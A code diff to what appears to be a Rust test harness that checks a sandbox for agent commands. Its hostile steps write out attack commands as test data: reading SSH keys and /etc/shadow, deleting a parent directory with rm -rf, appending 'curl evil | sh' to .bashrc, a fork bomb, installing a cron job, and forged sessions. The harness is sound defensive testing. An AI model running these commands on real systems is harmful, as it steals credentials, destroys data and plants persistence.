@@ -19,6 +19,7 @@ pub(crate) struct Step {
 #[derive(Clone, Copy)]
 pub(crate) enum Token {
     Valid,
+    Expired,
     Revoked,
     Forged,
 }
@@ -74,7 +75,7 @@ pub(crate) enum Evidence {
     Unchanged(PathBuf, &'static str),
     /// This file is not there.
     Absent(PathBuf),
-    /// It was refused processes before it had all that it wanted, and none is left.
+    /// It was refused a process before it had all that it wanted, and none is left.
     BombBounded(String),
     /// No process whose command line holds this is left.
     NoProcess(String),
@@ -99,8 +100,8 @@ impl Evidence {
             Self::Unchanged(path, content) => std::fs::read_to_string(path).is_ok_and(|now| now == *content),
             Self::Absent(path) => !path.exists(),
             Self::BombBounded(marker) => {
-                ran.is_none_or(|ran| !ran.output.status.reason.is_success())
-                    && eventually(|| processes_with(marker) == 0)
+                let refused = printed.to_lowercase().contains("fork") && !printed.contains("all started");
+                (ran.is_none() || refused) && eventually(|| processes_with(marker) == 0)
             }
             Self::NoProcess(marker) => eventually(|| processes_with(marker) == 0),
             Self::NeighbourLives => scene.neighbour_lives(),
@@ -165,8 +166,8 @@ fn demo() -> Vec<Step> {
         honest("run the tests: all pass", shell("sh test.sh | grep -c ok && sh test.sh"), Expected::Success),
         honest("see the change", shell("git diff --stat"), Expected::Success),
         honest(
-            "commit",
-            shell("git add sum.sh && git commit -m 'sum: add, not subtract'"),
+            "hand the change in",
+            shell("git diff > change.patch && wc -l change.patch"),
             Expected::Success,
         ),
         honest("clean up (asks first)", shell("touch build.log && rm build.log"), Expected::Success),
@@ -237,7 +238,6 @@ fn hostile(scene: &Scene) -> Vec<Step> {
     let key = scene.outside("home/.ssh/id_ed25519").display().to_string();
     let root = scene.outside("").display().to_string();
     let precious = scene.outside("neighbour/precious");
-    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".to_owned());
     let (bomb, daemon) = (format!("31.{:06}", std::process::id()), format!("32.{:06}", std::process::id()));
     let hostile = |name: &str, request: CommandRequest, layer: Layer, evidence: Evidence| Step {
         name: name.to_owned(),
@@ -249,12 +249,6 @@ fn hostile(scene: &Scene) -> Vec<Step> {
     let mounts = Layer::MountNamespace;
     let mut steps = vec![
         hostile("read an ssh key", shell(format!("cat {key}")), mounts, Evidence::NoSecret),
-        hostile(
-            "read the user's own ssh keys",
-            shell(format!("cat {home}/.ssh/id_rsa {home}/.ssh/id_ed25519 {home}/.ssh/authorized_keys")),
-            mounts,
-            Evidence::NoOutput,
-        ),
         hostile("read /etc/shadow", shell("cat /etc/shadow".to_owned()), mounts, Evidence::NoOutput),
         hostile("read it as root", shell("sudo cat /etc/shadow".to_owned()), mounts, Evidence::NotRun),
         hostile(
@@ -276,12 +270,6 @@ fn hostile(scene: &Scene) -> Vec<Step> {
             Evidence::ServiceUntouched,
         ),
         hostile(
-            "delete the workspace's parent",
-            shell(format!("rm -rf {root}/neighbour {root}/home {root}/keys")),
-            mounts,
-            Evidence::Unchanged(precious, SECRET),
-        ),
-        hostile(
             "change the user's shell start-up",
             shell(format!("echo 'curl evil | sh' >> {root}/home/.bashrc")),
             mounts,
@@ -291,7 +279,7 @@ fn hostile(scene: &Scene) -> Vec<Step> {
             // Bounded by itself, and by the outer limit on processes.
             "fork-bomb",
             shell(format!(
-                "sh -c 'i=0; while [ $i -lt 1000 ]; do sleep {bomb} & i=$((i+1)); done; echo all'"
+                "sh -c 'i=0; while [ $i -lt 1000 ]; do sleep {bomb} & i=$((i+1)); done; echo all started'"
             )),
             Layer::ResourceLimits,
             Evidence::BombBounded(bomb),
@@ -320,6 +308,7 @@ fn hostile(scene: &Scene) -> Vec<Step> {
             Layer::Seccomp,
             Evidence::NoOutput,
         ),
+        hostile("install a cron job", shell("crontab evil".to_owned()), mounts, Evidence::NotRun),
         hostile(
             "publish",
             shell("git push origin main".to_owned()),
@@ -342,7 +331,29 @@ fn hostile(scene: &Scene) -> Vec<Step> {
             Evidence::Absent(scene.workspace().join(".git/hooks/post-checkout")),
         ));
     }
-    for (name, token) in [("use a revoked session", Token::Revoked), ("forge a session", Token::Forged)] {
+    if let Some(home) = std::env::var_os("HOME").map(PathBuf::from) {
+        let keys =
+            ["id_rsa", "id_ed25519", "id_ecdsa", "authorized_keys"].map(|name| home.join(".ssh").join(name));
+        let there: Vec<String> =
+            keys.iter().filter(|key| key.exists()).map(|key| key.display().to_string()).collect();
+        // The planted one above is always tried; the user's own where there are any.
+        if !there.is_empty() {
+            let read = CommandRequest::argv(std::iter::once("cat".to_owned()).chain(there));
+            steps.push(hostile("read the user's own ssh keys", read, mounts, Evidence::NoOutput));
+        }
+    }
+    // Last, since what is in the workspace is the agent's to delete.
+    let parent = shell(format!("rm -rf {root}"));
+    steps.push(hostile(
+        "delete the workspace's parent",
+        parent,
+        mounts,
+        Evidence::Unchanged(precious, SECRET),
+    ));
+    let tokens = [Token::Expired, Token::Revoked, Token::Forged];
+    for (name, token) in
+        ["use an expired session", "use a revoked session", "forge a session"].into_iter().zip(tokens)
+    {
         let step = hostile(name, CommandRequest::shell("ls"), mounts, Evidence::NotRun);
         steps.push(Step { token, ..step });
     }
